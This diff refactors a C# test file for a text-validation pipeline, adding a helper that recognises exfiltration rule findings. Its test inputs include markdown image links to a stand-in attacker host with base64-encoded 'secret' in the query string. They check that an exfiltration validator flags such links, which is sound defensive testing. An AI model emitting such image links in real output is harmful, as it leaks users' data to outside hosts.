@@ -68,8 +68,8 @@ public sealed class SettingsTests
         Assert.Contains("repetition.size", await RulesAsync("one two three four five six seven"));
         Assert.Contains("language.unexpected", await RulesAsync("This is what they have been waiting for."));
         Assert.Empty(await RulesAsync("https://evil.example/a"));
-        Assert.DoesNotContain(await RulesAsync("![x](https://good.example/p.png?d=c2VjcmV0)"), rule => rule.StartsWith("exfiltration.", StringComparison.Ordinal));
-        Assert.Contains(await RulesAsync("![x](https://evil.example/p.png?d=c2VjcmV0)"), rule => rule.StartsWith("exfiltration.", StringComparison.Ordinal));
+        Assert.DoesNotContain(await RulesAsync("![x](https://good.example/p.png?d=c2VjcmV0)"), IsExfiltration);
+        Assert.Contains(await RulesAsync("![x](https://evil.example/p.png?d=c2VjcmV0)"), IsExfiltration);
 
         configuration["Banned:Substrings:0"] = "red moon";
         configuration["Urls:AllowList:0"] = "good.example";
@@ -92,10 +92,12 @@ public sealed class SettingsTests
         Add(options.Exfiltration.AllowedHosts, "good.example");
         Add(options.Banned.Substrings, "moon");
         ITextValidator[] own = [new UrlValidator(), new ExfiltrationValidator(new ExfiltrationOptions())];
-        var result = await Pipelines.Make(options, own).ValidateAsync("moon https://evil.example/a ![x](https://good.example/p.png?d=c2VjcmV0)", Pipelines.Reply);
+        const string Text = "moon https://evil.example/a ![x](https://good.example/p.png?d=c2VjcmV0)";
+        var result = await Pipelines.Make(options, own).ValidateAsync(Text, Pipelines.Reply);
         Assert.Equal(
             ["banned.substring", "exfiltration", "urls.host"],
-            result.Findings.Select(finding => finding.Finding).Select(found => found.Category == "exfiltration" ? found.Category : found.Rule).Order(StringComparer.Ordinal));
+            result.Findings.Select(finding => finding.Finding.Rule).Select(rule => IsExfiltration(rule) ? "exfiltration" : rule)
+                .Order(StringComparer.Ordinal));
     }
 
     [Fact]
@@ -104,6 +106,8 @@ public sealed class SettingsTests
         var options = Pipelines.Options(Pipelines.On("urls.host", ValidationAction.Block), Pipelines.On(RuleIds()[0], ValidationAction.Block));
         Assert.NotNull(Pipelines.Make(options, []));
     }
+
+    private static bool IsExfiltration(string rule) => rule.StartsWith("exfiltration.", StringComparison.Ordinal);
 
     private static string[] RuleIds() => [.. new BannedTextValidator(new BannedTextOptions()).Rules];
 
